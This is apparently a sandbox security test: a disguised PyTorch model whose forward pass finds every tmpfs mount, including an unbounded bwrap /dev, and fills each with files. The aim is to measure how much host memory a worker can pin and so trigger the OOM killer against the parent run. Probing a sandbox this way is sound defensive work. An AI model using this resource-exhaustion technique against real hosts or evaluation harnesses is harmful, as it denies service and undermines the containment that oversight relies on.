"""Attack: find every writable place of the sandbox and fill each, to see how much of the host's
memory one worker can pin (tmpfs pages belong to no process: when memory runs out the OOM killer
takes the largest process, the run, not the worker -- sandbox_s6 ``shm_fill``).

SECURITY.md: "a size-limited private /tmp and /dev/shm (tmp_mb each); nothing else is writable".
Two places were not looked at by s6/s7: bwrap's own ``/dev`` (``--dev /dev`` mounts a tmpfs with
no size limit; in a non-root run, or when the worker keeps uid 0, its owner is the worker's uid),
and the private tmpfs over ``<cache_dir>/torch_extensions`` (a third ``tmp_mb``). This candidate
lists the tmpfs mounts of /proc/self/mountinfo, writes files of at most RLIMIT_FSIZE (8 MiB in
run_attack.py) into each until it fails or 160 MiB, and reports MiB per place.

Success (GOT THROUGH): ``/dev`` takes more than nothing (unbounded), or the total is more than
2 x tmp_mb. Contained: ``/dev`` denied (EROFS/EACCES) and the total documented.
"""
import os

import torch

CAP = 160 << 20


def fill(d):
    n, i, why = 0, 0, "cap"
    try:
        while n < CAP:
            with open(os.path.join(d, f".sb8-fill-{i}"), "wb") as f:
                for _ in range(8):
                    f.write(b"\xa5" * (1 << 20))
                    n += 1 << 20
            i += 1
    except OSError as e:
        why = e.strerror
    return f"{n >> 20} MiB ({why})"


class ModelNew(torch.nn.Module):
    def __init__(self, **kw):
        super().__init__()

    def forward(self, x):
        mounts = []
        with open("/proc/self/mountinfo") as f:
            for line in f:
                a, b = line.split(" - ")
                if b.split()[0] == "tmpfs":
                    mounts.append(a.split()[4])
        out = {m: fill(m) for m in dict.fromkeys(["/dev", *mounts]) if os.path.isdir(m)}
        total = sum(int(v.split()[0]) for v in out.values())
        raise RuntimeError(f"scratch_census uid {os.getuid()}: total {total} MiB; {out}")
